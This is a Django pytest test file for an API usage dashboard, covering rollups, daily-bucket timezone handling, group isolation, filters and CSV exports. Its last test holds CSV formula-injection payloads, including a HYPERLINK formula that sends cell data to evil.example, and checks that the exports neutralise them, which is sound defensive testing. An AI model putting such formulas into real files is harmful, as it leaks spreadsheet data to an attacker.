from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, datetime, timedelta

import pytest
from django.db.models import Sum
from django.utils import timezone

from keys.services import api_key_create, api_key_revoke
from tests.factories import GroupFactory
from usage.catalogue import catalogue_sync
from usage.models import AIModel, RollupState, UsageEvent, UsageRollup
from usage.periods import resolve_period
from usage.rollups import rollup_range
from usage.selectors import usage_for

pytestmark = pytest.mark.django_db


def event(group, key, model, at, *, prompt=10, completion=20, searches=0, cost=1_000):  # type: ignore[no-untyped-def]
    return UsageEvent.objects.create(
        request_id=uuid.uuid4().hex, group=group, api_key=key, model=model, prompt_tokens=prompt,
        completion_tokens=completion, search_queries=searches, cost_micros=cost, created_at=at,
    )  # fmt: skip


@pytest.fixture
def world(group):  # type: ignore[no-untyped-def]
    catalogue_sync()
    sonar, pro = AIModel.objects.get(name="sonar"), AIModel.objects.get(name="sonar-pro")
    k1 = api_key_create(group=group, name="Server").key
    k2 = api_key_create(group=group, name="Laptop").key
    return {"group": group, "sonar": sonar, "pro": pro, "k1": k1, "k2": k2}


def set_rolled_through(moment):  # type: ignore[no-untyped-def]
    RollupState.objects.update_or_create(pk=1, defaults={"rolled_through": moment})


def test_rollup_totals_equal_raw_totals_exactly(world):
    g, now = world["group"], timezone.now()
    for i in range(200):
        event(g, world["k1" if i % 3 else "k2"], world["sonar" if i % 2 else "pro"], now - timedelta(minutes=37 * i),
              prompt=i, completion=2 * i + 1, searches=i % 4, cost=1_234 + i)  # fmt: skip
    rollup_range(now - timedelta(days=10), now + timedelta(hours=1))
    rollup_range(now - timedelta(days=10), now + timedelta(hours=1))  # idempotent
    raw = UsageEvent.objects.aggregate(
        c=Sum("cost_micros"),
        p=Sum("prompt_tokens"),
        o=Sum("completion_tokens"),
        s=Sum("search_queries"),
    )
    for period in ("hour", "day"):
        rolled = UsageRollup.objects.filter(period=period).aggregate(
            c=Sum("cost_micros"),
            p=Sum("prompt_tokens"),
            o=Sum("completion_tokens"),
            s=Sum("search_queries"),
            n=Sum("requests"),
        )
        assert (rolled["c"], rolled["p"], rolled["o"], rolled["s"], rolled["n"]) == (
            raw["c"],
            raw["p"],
            raw["o"],
            raw["s"],
            200,
        )


def test_dashboard_numbers_mix_rollups_and_fresh_events_without_double_counting(world):
    g, now = world["group"], timezone.now()
    old = [event(g, world["k1"], world["sonar"], now - timedelta(hours=h)) for h in range(2, 30)]
    rollup_range(now - timedelta(days=3), now)
    set_rolled_through(now - timedelta(hours=1, minutes=30))
    fresh = [
        event(g, world["k2"], world["pro"], now - timedelta(minutes=m), cost=5_000)
        for m in range(1, 6)
    ]
    usage = usage_for(group=g, period=resolve_period(preset="7d", tz="UTC"))
    assert usage.totals.requests == len(old) + len(fresh)
    assert usage.totals.cost_micros == len(old) * 1_000 + 5 * 5_000
    assert sum(usage.series["requests"]) == usage.totals.requests
    by_key = {b.label: b.totals.requests for b in usage.by_key}
    assert by_key == {"Server": len(old), "Laptop": 5}


def test_daily_buckets_follow_the_viewers_zone_across_dst(world):
    g = world["group"]
    # 2026-10-24 22:30 UTC is 00:30 on Oct 25 in Berlin (CEST, UTC+2); 2026-10-25 23:30 UTC is
    # 00:30 on Oct 26 (CET, UTC+1 after the change).
    event(g, world["k1"], world["sonar"], datetime(2026, 10, 24, 22, 30, tzinfo=UTC))
    event(g, world["k1"], world["sonar"], datetime(2026, 10, 25, 23, 30, tzinfo=UTC))
    event(g, world["k1"], world["sonar"], datetime(2026, 10, 25, 12, 0, tzinfo=UTC))
    rollup_range(datetime(2026, 10, 20, tzinfo=UTC), datetime(2026, 11, 1, tzinfo=UTC))
    set_rolled_through(timezone.now())
    period = resolve_period(
        preset="custom", start="2026-10-20", end="2026-10-31", tz="Europe/Berlin"
    )
    usage = usage_for(group=g, period=period)
    by_label = dict(zip(usage.labels, usage.series["requests"], strict=True))
    assert by_label["Oct 24"] == 0 and by_label["Oct 25"] == 2 and by_label["Oct 26"] == 1
    utc = usage_for(
        group=g,
        period=resolve_period(preset="custom", start="2026-10-20", end="2026-10-31", tz="UTC"),
    )
    by_label = dict(zip(utc.labels, utc.series["requests"], strict=True))
    assert by_label["Oct 24"] == 1 and by_label["Oct 25"] == 2


def test_members_and_admins_see_usage_and_other_groups_never_appear(
    world, member_client, admin_client
):
    g, now = world["group"], timezone.now()
    event(g, world["k1"], world["sonar"], now - timedelta(minutes=5), cost=2_000_000)
    other = GroupFactory()
    event(
        other,
        api_key_create(group=other, name="Theirs").key,
        world["sonar"],
        now - timedelta(minutes=5),
        cost=9_000_000,
    )
    for client in (member_client, admin_client):
        html = client.get(f"/g/{g.public_id}/usage/").content.decode()
        assert '<div class="value" data-testid="total-requests">1</div>' in html
        assert "$2.00" in html and "$9.00" not in html and "Theirs" not in html


def test_filters_by_key_and_model_and_revoked_keys_are_marked(world, admin_client):
    g, now = world["group"], timezone.now()
    event(g, world["k1"], world["sonar"], now - timedelta(minutes=3))
    event(g, world["k2"], world["pro"], now - timedelta(minutes=3))
    api_key_revoke(key=world["k2"])
    base = f"/g/{g.public_id}/usage/"
    html = admin_client.get(base).content.decode()
    assert "Revoked" in html and world["k2"].masked in html
    only = admin_client.get(base + f"?key={world['k1'].public_id}").content.decode()
    assert 'data-testid="total-requests">1<' in only
    only = admin_client.get(base + "?model=sonar-pro").content.decode()
    assert 'data-testid="total-requests">1<' in only
    partial = admin_client.get(base + "?range=24h", HTTP_HX_REQUEST="true")
    assert partial.content.decode().lstrip().startswith('<div id="usage-body">')


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("?range=custom&start=2026-13-01&end=2026-12-01", "is not a date"),
        ("?start=2026-11-20&end=2026-11-01", "end date is before"),
        ("?range=forever", "Unknown range"),
        ("?key=nope", "not in this group"),
        ("?model=gpt-9", "no model"),
    ],
)
def test_bad_filters_explain_themselves(world, admin_client, query, message):
    response = admin_client.get(f"/g/{world['group'].public_id}/usage/{query}")
    assert response.status_code == 400
    assert message in response.content.decode()


def test_another_groups_key_page_is_404(world, admin_client):
    other = api_key_create(group=GroupFactory(), name="Theirs").key
    assert (
        admin_client.get(f"/g/{world['group'].public_id}/usage/keys/{other.public_id}/").status_code
        == 404
    )
    page = admin_client.get(f"/g/{world['group'].public_id}/usage/keys/{world['k1'].public_id}/")
    assert page.status_code == 200 and "Spend and calls of this API key" in page.content.decode()


def test_empty_state_shows_a_first_request_snippet(world, member_client):
    html = member_client.get(f"/g/{world['group'].public_id}/usage/").content.decode()
    assert 'data-testid="usage-empty"' in html and "/chat/completions" in html


def test_csv_exports_are_exact(world, admin_client):
    g = world["group"]
    at = timezone.now().replace(minute=10, second=0, microsecond=0) - timedelta(hours=3)
    event(g, world["k1"], world["sonar"], at, prompt=7, completion=9, searches=1, cost=1_234_567)
    event(g, world["k1"], world["sonar"], at + timedelta(minutes=5), prompt=3, completion=1, cost=5)
    rollup_range(at - timedelta(hours=1), at + timedelta(hours=2))
    set_rolled_through(timezone.now())
    body = b"".join(
        admin_client.get(f"/g/{g.public_id}/usage/export.csv?range=24h").streaming_content
    ).decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0][:4] == ["bucket", "api_key", "key", "model"]
    assert rows[1][1:] == [
        "Server",
        world["k1"].masked,
        "sonar",
        "chat",
        "2",
        "10",
        "10",
        "0",
        "0",
        "1",
        "0",
        "0",
        "1.234572",
        "",
        "0",
        "0.000000",
        "",  # end_user: the filter's (none)
        "",  # tag: the filter's (none)
    ]
    raw = b"".join(
        admin_client.get(f"/g/{g.public_id}/usage/events.csv?range=24h").streaming_content
    ).decode()
    raw_rows = list(csv.reader(io.StringIO(raw)))
    assert len(raw_rows) == 3 and raw_rows[1][14] == "1.234567" and raw_rows[2][14] == "0.000005"


def test_query_count_is_fixed(world, admin_client, django_assert_max_num_queries):
    g, now = world["group"], timezone.now()
    for i in range(30):
        event(
            g,
            world["k1" if i % 2 else "k2"],
            world["sonar" if i % 3 else "pro"],
            now - timedelta(hours=i),
        )
    rollup_range(now - timedelta(days=3), now)
    set_rolled_through(now - timedelta(hours=2))
    url = f"/g/{g.public_id}/usage/?range=7d"
    # the filters' lists: keys, models, tools; one for the end-user and tag breakdowns
    with django_assert_max_num_queries(16) as captured:
        assert admin_client.get(url).status_code == 200
    count = len(captured)
    with django_assert_max_num_queries(count):
        admin_client.get(url + "&metric=cost_micros")  # same queries, however much data


def test_csv_exports_neutralise_formulas_but_keep_numbers(world, admin_client):
    g = world["group"]
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1 555 0100", "-2+3", "@SUM(A1)"]
    keys = [api_key_create(group=g, name=name).key for name in names]
    tabbed = api_key_create(group=g, name="Tab key").key
    type(tabbed).objects.filter(pk=tabbed.pk).update(name="\tcmd")  # names typed elsewhere
    at = timezone.now().replace(minute=10, second=0, microsecond=0) - timedelta(hours=3)
    for key in [*keys, tabbed]:
        event(g, key, world["sonar"], at, cost=1_500_000)
    event(g, world["k1"], world["sonar"], at, cost=2_000_000)
    rollup_range(at - timedelta(hours=1), at + timedelta(hours=2))
    set_rolled_through(timezone.now())

    for url, name_col, cost_col in (("export.csv", 1, 13), ("events.csv", 2, 14)):
        body = b"".join(
            admin_client.get(f"/g/{g.public_id}/usage/{url}?range=24h").streaming_content
        ).decode()
        rows = list(csv.reader(io.StringIO(body)))[1:]
        by_name = {row[name_col]: row for row in rows}
        assert set(by_name) == {"'" + n for n in names} | {"'\tcmd", "Server"}, url
        assert by_name["Server"][cost_col] == "2.000000", url
        assert {row[cost_col] for row in rows if row[name_col] != "Server"} == {"1.500000"}, url
